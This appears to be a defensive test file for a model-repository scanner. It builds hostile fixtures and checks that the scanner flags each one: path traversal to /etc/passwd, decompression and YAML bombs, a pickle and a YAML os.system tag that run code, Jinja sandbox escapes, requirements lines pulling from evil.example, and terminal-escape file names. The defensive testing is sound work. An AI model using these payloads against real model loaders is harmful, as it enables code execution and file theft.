"""Files that are made to exhaust, to lead out of the folder, or to hide a pickle: each ends in one sentence."""

import json
import lzma
import os
import pickle
import shutil
import time
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
import torch
from safetensors.torch import save_file
from test_published_files import Call
from typer.testing import CliRunner

from hfattn import CharRNNConfig, CharRNNForCausalLM
from hfattn.clean_process import FINGERPRINTS
from hfattn.errors import UserError
from hfattn.files import read_json
from hfattn.hub import architecture as architecture_module
from hfattn.hub import data_files, sandbox, verify
from hfattn.hub.architecture import architecture
from hfattn.hub.card import card_code
from hfattn.hub.data_files import check_data_files
from hfattn.hub.fingerprints import read_fingerprints
from hfattn.hub.inspection import inspect
from hfattn.hub.manifest import check_regular, copy_files
from hfattn.hub.pickles import find_pickle
from hfattn.hub.secrets import find_secret
from hfattn.hub.stated import card_data
from hfattn_cli import app


def weights(header: bytes, length: int | None = None, data: bytes = b"") -> bytes:
    return (len(header) if length is None else length).to_bytes(8, "little") + header + data


def tensor(dtype: str, shape: list[int], start: int, end: int) -> dict[str, object]:
    return {"dtype": dtype, "shape": shape, "data_offsets": [start, end]}


def graph(name: str) -> bytes:
    """The field of an ONNX graph that names the file with the values of a tensor."""
    text = name.encode()
    length = bytes([len(text) & 0x7F | 0x80, len(text) >> 7]) if len(text) > 127 else bytes([len(text)])
    return b"\x08\x08:\x10j\x20\n\x08location\x12" + length + text + b"j\x0b\n\x06offset\x12\x010"


OVERLAPPING = {"a": tensor("F32", [4], 0, 16), "b": tensor("F32", [4], 8, 24)}
UNSOUND = {
    "empty.safetensors": (b"", "has 0 bytes"),
    "length.safetensors": (weights(b"{}", 2**60), "says that its header has 1,152,921,504,606,846,976"),
    "largest.safetensors": (b"\xff" * 8 + b"{}", "says that its header has 18,446,744,073,709,551,615"),
    "long.safetensors": (weights(b"{}".ljust(2**25 + 1)), "has a header of 33,554,433 bytes, more than 33,554,432"),
    "overlap.safetensors": (weights(json.dumps(OVERLAPPING).encode(), data=bytes(24)), "is not a safetensors file"),
    "range.safetensors": (
        weights(json.dumps({"a": tensor("F32", [10**12], 0, 4 * 10**12)}).encode(), data=bytes(24)),
        "is not a safetensors file",
    ),
    "deep.safetensors": (weights(b'{"a":' + b"[" * 10**5 + b"]" * 10**5 + b"}"), "is not a safetensors file"),
    "model.safetensors.index.json": (
        b'{"weight_map": {"a": "part.safetensors", "b": "../../etc/passwd"}}',
        "names '../../etc/passwd', a file outside of the folder",
    ),
    "root.index.json": (b'{"weight_map": {"a": "/etc/passwd"}}', "names '/etc/passwd', a file outside"),
    "list.index.json": (b'{"weight_map": ["a"]}', "is not the index of weights in several files"),
    "deep.index.json": (b"[" * 10**5, "nested too deeply"),
    "model.onnx": (graph("../../etc/passwd"), "names '../../etc/passwd', a file outside"),
    "root.onnx": (graph("part.bin") + graph("/" + "etc/" * 50 + "passwd"), "names '/etc/etc/"),
    "order.onnx": (b"j\x10\x12\x04/etc\n\x08location", "names an external file in a way that cannot be read"),
    "drive.onnx": (graph("C:\\secret"), "names 'C:\\\\secret', a file outside"),
}


@pytest.mark.parametrize("name", UNSOUND)
def test_weights_indexes_and_graphs_that_are_not_sound(tmp_path: Path, name: str) -> None:
    content, message = UNSOUND[name]
    (tmp_path / name).write_bytes(content)
    with pytest.raises(AssertionError) as refusal:
        check_data_files(tmp_path, [name])
    assert str(refusal.value).startswith(f"{name} ")
    assert message in str(refusal.value)
    (finding,) = inspect(str(tmp_path)).findings
    assert (finding.kind, finding.path) == ("unreadable", name)
    assert message in finding.text


def test_names_without_end_are_read_up_to_a_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(data_files, "_MOST_PARTS", 1000)
    (tmp_path / "model.onnx").write_bytes(graph("part.bin") * 1001)
    with pytest.raises(AssertionError, match=r"model\.onnx names external files more than 1,000 times"):
        check_data_files(tmp_path, ["model.onnx"])
    (tmp_path / "requirements.txt").write_text("torch\n" * 1000 + "torhc\n" * 1000)
    found = [(each.path, each.line) for each in inspect(str(tmp_path)).findings]
    assert found == [("model.onnx", None), ("requirements.txt", 1001)]


def test_sound_files_pass(tmp_path: Path) -> None:
    save_file({"a": torch.zeros(3)}, tmp_path / "model.safetensors", {"format": "pt"})
    (tmp_path / "model.safetensors.index.json").write_text('{"weight_map": {"a": "model.safetensors"}}')
    (tmp_path / "model.onnx").write_bytes(graph("model.onnx_data") + graph("parts/two"))
    assert check_data_files(tmp_path, sorted(os.listdir(tmp_path))) == "3 files"


def test_nothing_runs_where_weights_are_not_sound(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox, "_kinds", lambda: pytest.fail("a sandbox was made"))
    (tmp_path / "config.json").write_text('{"architectures": ["LlamaForCausalLM"], "model_type": "llama"}')
    (tmp_path / "tokenizer.json").write_text("{}")
    (tmp_path / "model.safetensors").write_bytes(weights(b"{}", 2**60))
    report = verify(tmp_path)
    assert not report.passed
    assert "says that its header has 1,152,921,504,606,846,976" in report.failures()
    done = CliRunner().invoke(app, ["card", str(tmp_path)])
    assert (done.exit_code, done.stderr.count("\n")) == (2, 1)
    assert "model.safetensors is not a safetensors file" in done.stderr


# The copy


@pytest.mark.parametrize("kind", ["file", "folder", "pipe", "missing"])
def test_a_link_that_appears_after_the_check_is_not_followed(tmp_path: Path, kind: str) -> None:
    (tmp_path / "secret").mkdir()
    (tmp_path / "secret" / "a.txt").write_text("secret")
    run = tmp_path / "run"
    (run / "parts").mkdir(parents=True)
    (run / "parts" / "a.txt").write_text("mine")
    check_regular(run)
    if kind == "folder":
        shutil.rmtree(run / "parts")
        (run / "parts").symlink_to(tmp_path / "secret")
    else:
        (run / "parts" / "a.txt").unlink()
        if kind == "file":
            (run / "parts" / "a.txt").symlink_to(tmp_path / "secret" / "a.txt")
        elif kind == "pipe":
            os.mkfifo(run / "parts" / "a.txt")
    (tmp_path / "copy").mkdir()
    with pytest.raises(UserError, match=r"parts/a\.txt (cannot be copied|is not a file)"):
        copy_files(run, ["parts/a.txt"], tmp_path / "copy")
    assert not [path for path in (tmp_path / "copy").rglob("*") if path.is_file() and path.stat().st_size]


def test_a_copy_that_has_no_space_is_not_begun(tmp_path: Path) -> None:
    (tmp_path / "run").mkdir()
    with (tmp_path / "run" / "model.safetensors").open("wb") as file:
        file.truncate(2**43)  # a file of holes
    (tmp_path / "copy").mkdir()
    with pytest.raises(UserError, match="8,796,093,022,208 bytes, and the disk of"):
        copy_files(tmp_path / "run", ["model.safetensors"], tmp_path / "copy")
    assert not list((tmp_path / "copy").iterdir())


# Pickles


COMPRESSED: dict[str, Callable[[bytes], bytes]] = {
    "zlib": zlib.compress,
    "stored": lambda data: zlib.compress(data, 0),
    "small window": lambda data: (lambda stream: stream.compress(data) + stream.flush())(zlib.compressobj(9, 8, 9)),
    "lzma": lambda data: lzma.compress(data, lzma.FORMAT_ALONE),
    "broken after the call": lambda data: zlib.compress(data + os.urandom(2**16), 0)[:-100] + bytes(100),
    "joblib before 0.10": lambda data: b"ZF0x%-16x" % len(data) + zlib.compress(data),
    "long text before": lambda data: data,
}


@pytest.mark.parametrize("kind", COMPRESSED)
@pytest.mark.parametrize("protocol", [0, 2, 4])
def test_a_compressed_pickle_is_found(tmp_path: Path, kind: str, protocol: int) -> None:
    data = pickle.dumps(Call(), protocol)
    if kind == "long text before":
        data = b"(S'" + b"a" * 5000 + b"'\n" + b"V" + b"b" * 2**17 + b"\n" + pickle.dumps(Call(), 0)
    (tmp_path / "vectors.model").write_bytes(COMPRESSED[kind](data))
    assert find_pickle(tmp_path / "vectors.model") is not None


def test_a_pickle_of_many_operations_is_read_up_to_a_limit(tmp_path: Path) -> None:
    (tmp_path / "lists.model").write_bytes(b"]" * 2**20)
    (tmp_path / "frame.model").write_bytes(b"\x95" + (2**24).to_bytes(8, "little") + b"]" * 2**20)
    for name in ("lists.model", "frame.model"):
        assert find_pickle(tmp_path / name) == "is a pickle, which runs code when it is read"
    (tmp_path / "deep.npy").write_bytes(b"\x93NUMPY\x02\0" + (2**32 - 1).to_bytes(4, "little") + b"{" * 2**20)
    assert find_pickle(tmp_path / "deep.npy") == "has objects, which numpy stores as a pickle"
    for name, text in {"power.txt": "x^2 + y^2 = 1\n" * 50, "h.txt": "hCell\n", "line.txt": "I" * 2**20}.items():
        (tmp_path / name).write_text(text)
        assert find_pickle(tmp_path / name) is None, name


# Texts


BOMB = "a: &a [x, x]\n" + "".join(f"{c}: &{c} [*{b}, *{b}]\n" for b, c in zip("abcdefgh", "bcdefghi", strict=True))
CARDS = {
    "aliases": BOMB + "license: *i",
    "merges": "a: &a {x: 1}\n" + "".join(f"b{i}: {{<<: [*a, *a]}}\n" for i in range(3)),
    "a loop": "license: &a [*a]",
    "depth": "license: " + "[" * 5000 + "]" * 5000,
    "objects": "license: !!python/object/apply:os.system [exit]",
}


@pytest.mark.parametrize("kind", CARDS)
def test_a_card_with_yaml_that_grows_is_refused(tmp_path: Path, kind: str) -> None:
    (tmp_path / "README.md").write_text(f"---\n{CARDS[kind]}\n---\n# A model\n")
    with pytest.raises(UserError, match="cannot be read") as refusal:
        card_data(tmp_path / "README.md")
    assert "\n" not in str(refusal.value)


def test_files_that_are_too_large_to_be_read_are_not(tmp_path: Path) -> None:
    for name in ("README.md", "config.json", FINGERPRINTS):
        with (tmp_path / name).open("wb") as file:
            file.truncate(2**33)
    with pytest.raises(UserError, match="has more than 4 MiB"):
        card_data(tmp_path / "README.md")
    with pytest.raises(UserError, match="has more than 64 MiB"):
        read_json(tmp_path / "config.json")
    with pytest.raises(ValueError, match="it has more than 64 MiB"):
        read_fingerprints(tmp_path)
    with pytest.raises(AssertionError, match=r"^config\.json has more than 4 MiB"):
        check_data_files(tmp_path, ["README.md", "config.json"])


@pytest.mark.parametrize("beginning", ["```python\n", "It prints:\n\n````text\n", "It prints:\n\n" + "`" * 9])
def test_a_card_of_many_beginnings_is_read_once(beginning: str) -> None:
    begun = time.monotonic()
    assert card_code(beginning * 100_000) == (None, None) or beginning == "```python\n"
    assert time.monotonic() - begun < 5


def test_fingerprints_have_few_texts(tmp_path: Path) -> None:
    row = [["a text"]]
    for texts, more, message in (
        ([["a"]], {str(i): row for i in range(100)}, "more texts than a model needs"),
        ([["a"]] * 1000, {}, "more texts than a model needs"),
        ([["a " * 2**22]], {}, "have more than 4,194,304 characters"),
    ):
        metadata = {"texts": json.dumps(texts), "more": json.dumps(more)}
        save_file({"logits": torch.zeros(1)}, tmp_path / FINGERPRINTS, metadata)
        with pytest.raises(ValueError, match=message):
            read_fingerprints(tmp_path)
    save_file({"logits": torch.zeros(1)}, tmp_path / FINGERPRINTS, {"texts": "[" * 5000 + "]" * 5000})
    with pytest.raises(RecursionError):  # which verify reports
        read_fingerprints(tmp_path)


@pytest.mark.parametrize("place", [0, 2**22 - 10, 2**22 + 5, 5 * 2**20])
def test_a_key_in_a_line_of_many_megabytes_is_found(tmp_path: Path, place: int) -> None:
    key = "hf_" + "AbCdEfGh" * 4
    (tmp_path / "log.txt").write_text("first\n" + "a " * (place // 2) + key + " b" * 2**20 + "\nlast")
    assert find_secret(tmp_path / "log.txt", set()) == "what looks like a token or key (Hugging Face) in line 2"


@pytest.mark.parametrize(
    ("sizes", "message"),
    [
        ({"num_labels": 10**9}, "has 1000000000 as 'num_labels', more than 1,000"),
        ({"num_hidden_layers": 10**9}, "has 1000000000 as 'num_hidden_layers', more than 10,000"),
        ({"num_hidden_layers": 1000}, "describes more than 1,000 modules"),
    ],
)
def test_a_configuration_of_a_giant_is_refused(
    tmp_path: Path, sizes: dict[str, int], message: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(architecture_module, "_MOST", 1000)
    base = {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 8, "num_attention_heads": 1}
    (tmp_path / "config.json").write_text(json.dumps({**base, **sizes}))
    with pytest.raises(UserError, match=message):
        architecture(tmp_path)


# What is installed, and templates

REQUIREMENTS = """
torch>=2.4  # the usual ones
transformers[torch]>=5.17,<6; python_version > "3.10"
sentence_transformers
mypackage==1.0
--index-url http://evil.example/simple
-e git+https://evil.example/x.git
https://evil.example/x.whl
torch @ https://evil.example/torch.whl
-r ../../etc/passwd
torhc
transfomers==5.0
"""


def test_lines_of_requirements_that_install_something_else_are_findings(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text(REQUIREMENTS)
    found = inspect(str(tmp_path)).findings
    assert [(each.kind, each.line) for each in found] == [("packages", line) for line in range(6, 13)]
    assert [each.name for each in found[-2:]] == ["torhc, which is not torch", "transfomers, which is not transformers"]


@pytest.mark.parametrize(
    "template",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ cycler.init }}",
        "{{ x | attr('a') }}",
        "{{ x['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    ],
)
def test_a_template_that_reaches_out_is_a_finding(tmp_path: Path, template: str) -> None:
    (tmp_path / "more.jinja").write_text(f"{{# a comment #}}\n{template}\n")
    (tmp_path / "tokenizer_config.json").write_text(json.dumps({"chat_template": [{"template": template}]}))
    found = {(each.kind, each.path, each.line) for each in inspect(str(tmp_path)).findings}
    assert found == {("hidden", "more.jinja", 2), ("hidden", "tokenizer_config.json", None)}
    (tmp_path / "more.jinja").write_text("{% for message in messages %}{{ message['role'] + '\\n' }}{% endfor %}")
    (tmp_path / "tokenizer_config.json").write_text("{}")
    assert not inspect(str(tmp_path)).findings


def test_names_do_not_steer_a_terminal(tmp_path: Path) -> None:
    CharRNNForCausalLM(CharRNNConfig(vocab_size=8, hidden_size=8)).save_pretrained(tmp_path)
    (tmp_path / "a\nall checks passed.\x1b[2J.safetensors").write_bytes(weights(b"{}", 2**60))
    (tmp_path / "a\u202egnp.py").write_text("import os\nos.system('x')\n")
    for command in ("inspect", "verify", "card"):
        done = CliRunner().invoke(app, [command, str(tmp_path)])
        assert done.exit_code in (1, 2)
        said = done.output + done.stderr
        assert "\x1b" not in said and "\u202e" not in said and "\nall checks passed" not in said  # noqa: PT018
